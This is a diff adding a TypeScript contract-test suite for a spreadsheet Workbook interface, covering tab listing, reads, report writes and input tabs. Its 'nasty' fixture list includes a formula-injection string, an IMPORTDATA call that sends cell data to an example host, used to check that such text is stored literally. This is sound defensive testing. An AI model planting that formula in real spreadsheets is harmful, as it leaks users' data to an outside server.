@@ -1,0 +1,229 @@
+import type { Workbook } from '../../src/app/workbook';
+import type { Cell, Grid } from '../../src/core/cell';
+import { UserError } from '../../src/core/error';
+import type { Look, Sheet } from '../../src/report/sheet';
+
+/*
+ * What every host's Workbook must do, whatever it is made over. The cases need no test runner:
+ * they run on memory, on .xlsx and on the stand-in for Google, and, as `runContract`, in a live spreadsheet.
+ */
+
+/** Makes a workbook of tabs, and reads one back after all that was written has reached the place where it is kept. */
+export interface Host {
+  make(tabs: Record<string, Grid>): Workbook;
+  reopen(workbook: Workbook): Workbook | Promise<Workbook>;
+}
+
+export interface Case {
+  name: string;
+  run(host: Host): Promise<void>;
+}
+
+export function same(found: unknown, expected: unknown): void {
+  if (JSON.stringify(found) !== JSON.stringify(expected))
+    throw new Error(`expected ${JSON.stringify(expected)}, found ${JSON.stringify(found)}`);
+}
+
+const plain: Look = {
+  bold: false,
+  italic: false,
+  size: 10,
+  color: '#202124',
+  fill: null,
+  format: '',
+  align: 'left',
+  valign: 'top',
+  wrap: false,
+  underline: null,
+  edge: null,
+};
+
+export function sheetOf(name: string, grid: Grid): Sheet {
+  return {
+    name,
+    color: '#1B7F79',
+    cells: grid.map(row => row.map(value => ({ value, look: typeof value === 'string' ? { ...plain, format: '@' } : plain }))),
+    widths: grid[0]!.map(() => 12),
+    heights: grid.map(() => null),
+    merges: [],
+    frozen: { rows: 1, columns: 0 },
+    filter: null,
+    rules: [],
+    charts: [],
+    isLandscape: true,
+  };
+}
+
+const people: Grid = [
+  ['Name', 'Age', 'Likes'],
+  ['Ann', 41, true],
+  ['Bo', null, false],
+  [null, 7, 'tea'],
+];
+
+const column = (workbook: Workbook, tab: string, at: number): Cell[] =>
+  workbook.columns(tab, [at], 0, workbook.tabs().find(one => one.name === tab)!.rows)[0]!;
+
+/** Texts that a spreadsheet would gladly take for something else. */
+export const nasty: string[] = [
+  '=1+1',
+  '=IMPORTDATA("https://example.com/?"&A2)',
+  '+49 30',
+  '-3 stars',
+  '@here',
+  "'quoted",
+  '007',
+  '1/2',
+  '3-4',
+  '50%',
+  'TRUE',
+  '2026-11-22',
+  ' lead',
+  'a\nb',
+  '5',
+  '1e5',
+  '$5',
+  'née',
+  '好',
+  '😀',
+  '<b>bold</b>',
+  '"',
+  "it's",
+];
+
+export const cases: Case[] = [
+  {
+    name: 'lists its tabs with their sizes, none of them a report',
+    async run({ make }) {
+      const found = make({ People: people, Empty: [] }).tabs();
+      same(
+        found.map(({ name, rows, isReport }) => ({ name, rows, isReport })),
+        [
+          { name: 'People', rows: 4, isReport: false },
+          { name: 'Empty', rows: 0, isReport: false },
+        ],
+      );
+      same(found[0]!.columns, 3);
+    },
+  },
+  {
+    name: 'gives the first rows, fewer where there are fewer',
+    async run({ make }) {
+      const workbook = make({ People: people, Empty: [] });
+      same(workbook.head('People', 2), people.slice(0, 2));
+      same(workbook.head('People', 99).length, 4);
+      same(workbook.head('Empty', 5), []);
+    },
+  },
+  {
+    name: 'gives columns of some rows in the order asked for, blanks as null',
+    async run({ make }) {
+      same(make({ People: people }).columns('People', [2, 0], 1, 3), [
+        [true, false, 'tea'],
+        ['Ann', 'Bo', null],
+      ]);
+    },
+  },
+  {
+    name: 'writes a report whose texts stay the texts they are',
+    async run({ make, reopen }) {
+      const workbook = make({ People: people });
+      workbook.writeReport(sheetOf('Report', [['Text', 'Number'], ...nasty.map((text, i) => [text, i])]));
+      const again = await reopen(workbook);
+      same(
+        again.tabs().map(({ name, isReport }) => [name, isReport]),
+        [
+          ['People', false],
+          ['Report', true],
+        ],
+      );
+      same(column(again, 'Report', 0), ['Text', ...nasty]);
+      same(column(again, 'Report', 1), ['Number', ...nasty.map((_, i) => i)]);
+      same(again.head('People', 9), people);
+    },
+  },
+  {
+    name: 'rewrites a report, shorter or longer, and nothing else',
+    async run({ make, reopen }) {
+      const workbook = make({ People: people });
+      workbook.writeReport(sheetOf('Report', [['A'], ['b'], ['c']]));
+      const second = await reopen(workbook);
+      second.writeReport(sheetOf('Report', [['A'], ['d']]));
+      const third = await reopen(second);
+      same(column(third, 'Report', 0).slice(0, 2), ['A', 'd']);
+      third.writeReport(sheetOf('Report', [['A'], ['e'], ['f'], ['g'], ['h']]));
+      const last = await reopen(third);
+      same(column(last, 'Report', 0), ['A', 'e', 'f', 'g', 'h']);
+      same(last.head('People', 9), people);
+    },
+  },
+  {
+    name: "refuses to write over a user's tab, whatever the case of its name",
+    async run({ make, reopen }) {
+      const workbook = make({ summary: [['mine']] });
+      let code = '';
+      try {
+        workbook.writeReport(sheetOf('Summary', [['A']]));
+      } catch (error) {
+        code = error instanceof UserError ? error.code : String(error);
+      }
+      same(code, 'tab-taken');
+      same((await reopen(workbook)).head('summary', 5), [['mine']]);
+    },
+  },
+  {
+    name: 'announces a report, which then takes the place of the announcement',
+    async run({ make, reopen }) {
+      const workbook = make({ People: people });
+      workbook.announce('Report', 'Not finished');
+      workbook.writeReport(sheetOf('Report', [['A'], ['b']]));
+      same(column(await reopen(workbook), 'Report', 0), ['A', 'b']);
+    },
+  },
+  {
+    name: 'appends rows below the last used one',
+    async run({ make, reopen }) {
+      const workbook = make({ People: people });
+      workbook.appendRows('People', [
+        ['=Cy', 3],
+        ['Di', null],
+      ]);
+      const again = await reopen(workbook);
+      same(column(again, 'People', 0), ['Name', 'Ann', 'Bo', null, '=Cy', 'Di']);
+      same(column(again, 'People', 1), ['Age', 41, null, 7, 3, null]);
+    },
+  },
+  {
+    name: 'fills blank cells, and leaves what is there',
+    async run({ make, reopen }) {
+      const workbook = make({ People: people });
+      workbook.fillBlanks('People', [
+        { row: 1, column: 0, value: 'X' },
+        { row: 3, column: 0, value: 'Y' },
+      ]);
+      same(column(await reopen(workbook), 'People', 0), ['Name', 'Ann', 'Bo', 'Y']);
+    },
+  },
+  {
+    name: 'makes an input tab with its header and rows, and refuses a name in use',
+    async run({ make, reopen }) {
+      const workbook = make({ People: people });
+      const of = (name: string) => ({
+        name,
+        columns: [{ header: 'Touchpoint', note: 'Where', isRequired: true, choices: ['Shop', 'Web'], format: '@', width: 20 }],
+        rows: [['Shop'], ['=Web']],
+      });
+      workbook.createInputTab(of('Touchpoints'));
+      let code = '';
+      try {
+        workbook.createInputTab(of('people'));
+      } catch (error) {
+        code = error instanceof UserError ? error.code : String(error);
+      }
+      same(code, 'tab-taken');
+      const again = await reopen(workbook);
+      same(column(again, 'Touchpoints', 0), ['Touchpoint', 'Shop', '=Web']);
+      same(again.tabs().find(tab => tab.name === 'Touchpoints')!.isReport, false);
+    },
+  },
+];
